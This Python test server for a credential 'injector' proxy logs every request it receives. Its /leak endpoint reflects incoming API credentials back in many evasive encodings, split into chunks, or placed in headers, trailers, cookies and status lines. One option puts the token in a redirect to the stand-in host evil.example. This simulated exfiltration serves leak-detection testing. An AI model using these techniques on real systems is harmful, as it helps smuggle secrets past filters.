# SPDX-License-Identifier: Apache-2.0
"""A server for the tests of the injector: writes down all it is sent, and answers with it.

upstream.py LOG CERT KEY WWW ADDRESS...: HTTP on port 80 and HTTPS on ports 443 and 8443 of each address.  LOG gets
a JSON object a request: {"at","tls","sni","method","target","headers","body"}.

/echo            what was sent, as JSON
/leak?as=ENC&in=body|header|trailer|redirect|status|cookie&cut=N
                 the credential that came in Authorization, x-api-key or ?key=, in an encoding, in pieces of N bytes
/sse?n=N         N events, each in a write of its own
/ws              a WebSocket that answers each message with it
/gzip            compressed, whatever was asked for
/redirect?to=URL a redirect
/status?code=N   that status, and nothing else
/git/...         git's own backend, below WWW
/files/...       what lies below WWW
/silent          nothing, until the client goes
/early           an answer before the request's body was read
"""
import base64, gzip, hashlib, html, json, os, socket, ssl, struct, subprocess, sys, textwrap, threading, urllib.parse

ENCODINGS = {
    "raw": lambda s: s,
    "json": lambda s: json.dumps(s)[1:-1].replace("/", "\\/"),
    "unicode": lambda s: "".join("\\u%04x" % ord(c) for c in s),
    "percent": lambda s: "".join("%%%02X" % b for b in s.encode()),
    "quote": lambda s: urllib.parse.quote(s, safe=""),
    "hex": lambda s: s.encode().hex(),
    "HEX": lambda s: s.encode().hex().upper(),
    "base64": lambda s: base64.b64encode(s.encode()).decode(),
    "base64b": lambda s: base64.b64encode(b"x" + s.encode() + b"y").decode(),
    "base64c": lambda s: base64.b64encode(b"xy" + s.encode()).decode(),
    "heX": lambda s: "".join(c.upper() if i % 3 else c for i, c in enumerate(s.encode().hex())),
    "html": lambda s: html.escape(s),
    "htmlnum": lambda s: "".join("&#%d;" % ord(c) for c in s),
    "mime": lambda s: "\r\n".join(textwrap.wrap(base64.b64encode(b"x" + s.encode()).decode(), 19)),
    "utf16": lambda s: s.encode("utf-16-le").decode("latin-1"),
    "base64url": lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("="),
}
lock = threading.Lock()


class Peer:
    def __init__(self, sock, log, at, names):
        self.sock, self.log, self.at, self.names = sock, log, at, names
        self.file = sock.makefile("rb")

    def send(self, data):
        self.sock.sendall(data if isinstance(data, bytes) else data.encode("latin-1"))

    def head(self):
        line = self.file.readline(70000)
        if not line.strip():
            return None
        self.method, self.target, self.version = line.decode("latin-1").split()
        self.headers = []
        while True:
            line = self.file.readline(70000).decode("latin-1").rstrip("\r\n")
            if not line:
                return self
            name, _, value = line.partition(":")
            self.headers.append((name.lower(), value.strip()))

    def get(self, name):
        return next((v for n, v in self.headers if n == name), None)

    def read_body(self):
        if (self.get("transfer-encoding") or "").lower() == "chunked":
            body = []
            while True:
                size = int(self.file.readline().split(b";")[0], 16)
                data = self.file.read(size)
                self.file.readline()
                if not size:
                    return b"".join(body)
                body.append(data)
        return self.file.read(int(self.get("content-length") or 0))

    def record(self, body):
        tls = isinstance(self.sock, ssl.SSLSocket)
        self.said = {"at": self.at, "tls": tls, "sni": self.names.get(self.sock) if tls else None, "method": self.method,
                     "target": self.target, "headers": self.headers, "body": body[:4096].decode("latin-1"), "size": len(body)}
        with lock:
            self.log.write(json.dumps(self.said) + "\n")
            self.log.flush()

    def credential(self):
        q = urllib.parse.parse_qs(urllib.parse.urlsplit(self.target).query)
        value = self.get("authorization") or self.get("x-api-key") or q.get("key", [""])[0]
        return value.split(" ")[-1]

    def answer(self, body, fields="", status="200 OK"):
        body = body if isinstance(body, bytes) else body.encode("latin-1")
        self.send("HTTP/1.1 %s\r\ncontent-length: %d\r\n%s\r\n" % (status, len(body), fields))
        if self.method != "HEAD":
            self.send(body)

    def chunks(self, pieces, fields="", trailer=""):
        self.send("HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n%s\r\n" % fields)
        for piece in pieces:
            self.send("%x\r\n%s\r\n" % (len(piece), piece))
        self.send("0\r\n%s\r\n" % trailer)

    def leak(self, q):
        text = ENCODINGS[q.get("as", "raw")](self.credential())
        where, cut = q.get("in", "body"), int(q.get("cut", 0))
        if where == "header":
            self.answer("", "x-echo: %s\r\n" % text)
        elif where == "cookie":
            self.answer("", "set-cookie: a=%s; path=/\r\n" % text)
        elif where == "redirect":
            self.answer("", "location: https://evil.example/?t=%s\r\n" % text, "302 Found")
        elif where == "status":
            self.answer("", "", "200 " + text)
        elif where == "trailer":
            self.chunks(["x"], "trailer: x-echo\r\n", "x-echo: %s\r\n" % text)
        elif cut:
            text = "before " + text + " after"
            self.chunks([text[i:i + cut] for i in range(0, len(text), cut)])
        else:
            self.answer("before " + text + " after")

    def websocket(self):
        accept = base64.b64encode(hashlib.sha1((self.get("sec-websocket-key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest())
        self.send("HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: Upgrade\r\nsec-websocket-accept: %s\r\n\r\n" % accept.decode())
        while True:
            begin = self.file.read(2)
            if len(begin) < 2:
                return
            size = begin[1] & 127
            if size == 126:
                size = struct.unpack(">H", self.file.read(2))[0]
            mask = self.file.read(4)
            text = bytes(b ^ mask[i % 4] for i, b in enumerate(self.file.read(size)))
            if begin[0] & 15 == 8:
                self.send(b"\x88\x00")
                return
            if text == b"leak":
                text = (self.get("authorization") or "").encode()
            self.send(bytes([0x81, len(text)]) + text if len(text) < 126 else b"\x81\x7e" + struct.pack(">H", len(text)) + text)

    def git(self, url, body):
        env = {"PATH": os.environ["PATH"], "GIT_PROJECT_ROOT": sys.argv[4], "GIT_HTTP_EXPORT_ALL": "1", "REMOTE_USER": "a",
               "PATH_INFO": url.path[4:], "QUERY_STRING": url.query, "REQUEST_METHOD": self.method, "CONTENT_LENGTH": str(len(body)),
               "CONTENT_TYPE": self.get("content-type") or "", "HTTP_CONTENT_ENCODING": self.get("content-encoding") or "",
               "GIT_PROTOCOL": self.get("git-protocol") or "", "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "safe.directory", "GIT_CONFIG_VALUE_0": "*"}
        said = subprocess.run(["git", "http-backend"], input=body, env=env, stdout=subprocess.PIPE).stdout
        head, _, body = said.partition(b"\r\n\r\n")
        fields = [line.decode() for line in head.split(b"\r\n")]
        status = next((f[8:] for f in fields if f.startswith("Status: ")), "200 OK")
        self.answer(body, "".join(f + "\r\n" for f in fields if not f.startswith(("Status", "Content-Length"))), status)

    def files(self, path):
        try:
            with open(sys.argv[4] + path, "rb") as f:
                self.answer(f.read())
        except OSError:
            self.answer("", "", "404 Not Found")

    def serve_one(self):
        url = urllib.parse.urlsplit(self.target)
        q = {k: v[0] for k, v in urllib.parse.parse_qs(url.query).items()}
        if url.path == "/early":
            self.record(b"")
            self.send("HTTP/1.1 413 Too Large\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
            return False
        if (self.get("expect") or "") == "100-continue":
            self.send("HTTP/1.1 100 Continue\r\n\r\n")
        body = self.read_body()
        self.record(body)
        if url.path == "/leak":
            self.leak(q)
        elif url.path == "/sse":
            self.chunks(("data: %d\n\n" % i for i in range(int(q.get("n", 3)))), "content-type: text/event-stream\r\n")
        elif url.path == "/ws" and self.get("upgrade"):
            self.websocket()
            return False
        elif url.path == "/gzip":
            self.answer(gzip.compress(self.credential().encode()), "content-encoding: gzip\r\n")
        elif url.path == "/silent":
            self.file.read(1)
            return False
        elif url.path == "/redirect":
            self.answer("", "location: %s\r\n" % q["to"], "302 Found")
        elif url.path.startswith("/git/"):
            self.git(url, body)
        elif url.path.startswith("/files/"):
            self.files(url.path[6:])
        elif url.path == "/status":
            self.answer("", "", q["code"] + " As Asked")
        else:
            self.answer(json.dumps(self.said), "content-type: application/json\r\n")
        return (self.get("connection") or "").lower() != "close"


def serve(sock, log, at, context, names):
    try:
        if context:
            sock = context.wrap_socket(sock, server_side=True)
            names[sock] = names.pop(threading.get_ident(), None)
        peer = Peer(sock, log, at, names)
        while peer.head() and peer.serve_one():
            pass
    except (OSError, ValueError, ssl.SSLError):
        pass
    finally:
        names.pop(sock, None)
        sock.close()


def listen(address, port, log, context, names):
    server = socket.create_server((address, port), backlog=64)
    while True:
        sock, _ = server.accept()
        sock.settimeout(30)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        threading.Thread(target=serve, args=(sock, log, "%s:%d" % (address, port), context, names), daemon=True).start()


def main():
    log, names = open(sys.argv[1], "a"), {}
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(sys.argv[2], sys.argv[3])
    context.set_alpn_protocols(["http/1.1"])
    context.sni_callback = lambda s, name, c: names.__setitem__(threading.get_ident(), name)
    threads = [threading.Thread(target=listen, args=(a, p, log, context if p != 80 else None, names))
               for a in sys.argv[5:] for p in (80, 443, 8443)]
    for t in threads:
        t.start()


main()
